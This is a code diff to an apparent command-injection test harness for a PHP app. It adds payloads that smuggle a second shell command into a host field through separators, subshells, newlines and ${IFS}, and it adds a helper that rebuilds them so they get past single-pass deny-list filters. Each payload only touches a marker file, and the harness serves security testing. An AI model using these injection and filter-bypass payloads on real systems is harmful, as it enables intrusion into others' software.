@@ -27,6 +27,7 @@ from php_app import (
     spaceless_lines,
     text_of,
 )
+from recombine import recombining
 
 
 def start(marker: Path | None = None) -> App:
@@ -107,10 +108,15 @@ def option() -> None:
 
 STEPS: dict[str, Callable[[], None]] = {
     "functional": functional,
+    # after the plain payloads, '&&', '||' and '$(' spelled so that deny-lists deleting quotes,
+    # backslashes, backticks, separators or the sequence itself in one pass glue them back
+    # together (recombining); '$(' also out of single quotes the host was put in
     "separator": marker_exploit(lambda m: [f"127.0.0.1;touch {m}", f"127.0.0.1|touch {m}", f"127.0.0.1&&touch {m}",
-                                           f"no-such-host||touch {m}", f"127.0.0.1 & touch {m}"]),
+                                           f"no-such-host||touch {m}", f"127.0.0.1 & touch {m}",
+                                           *recombining(f"127.0.0.1&&touch {m}"), *recombining(f"no-such-host||touch {m}")]),
     "subshell": marker_exploit(lambda m: [f"$(touch {m})", f"`touch {m}`", f"127.0.0.1$(touch {m})",
-                                          f"127.0.0.1`touch {m}`"]),
+                                          f"127.0.0.1`touch {m}`", *recombining(f"127.0.0.1$(touch {m})"),
+                                          *recombining(f"'$(touch {m})'")]),
     # a line break as the separator, then also lines with no space (see spaceless_lines), bare or
     # out of a quote the host was put in
     "newline": marker_exploit(lambda m: [f"127.0.0.1\ntouch {m}", f"127.0.0.1\r\ntouch {m}\n",
@@ -128,7 +134,8 @@ STEPS: dict[str, Callable[[], None]] = {
                                           f"127.0.0.1'>'{m}", f"127.0.0.1\">\"{m}"]),
     "no-space": marker_exploit(lambda m: [f"127.0.0.1;touch${{IFS}}{m}", f"127.0.0.1|touch${{IFS}}{m}",
                                           f"127.0.0.1\ntouch${{IFS}}{m}", f"127.0.0.1;touch\t{m}",
-                                          f"127.0.0.1\ntouch\t{m}", f"$(touch${{IFS}}{m})"]),
+                                          f"127.0.0.1\ntouch\t{m}", f"$(touch${{IFS}}{m})",
+                                          *recombining(f"$(touch${{IFS}}{m})")]),
     "option": option,
 }
 
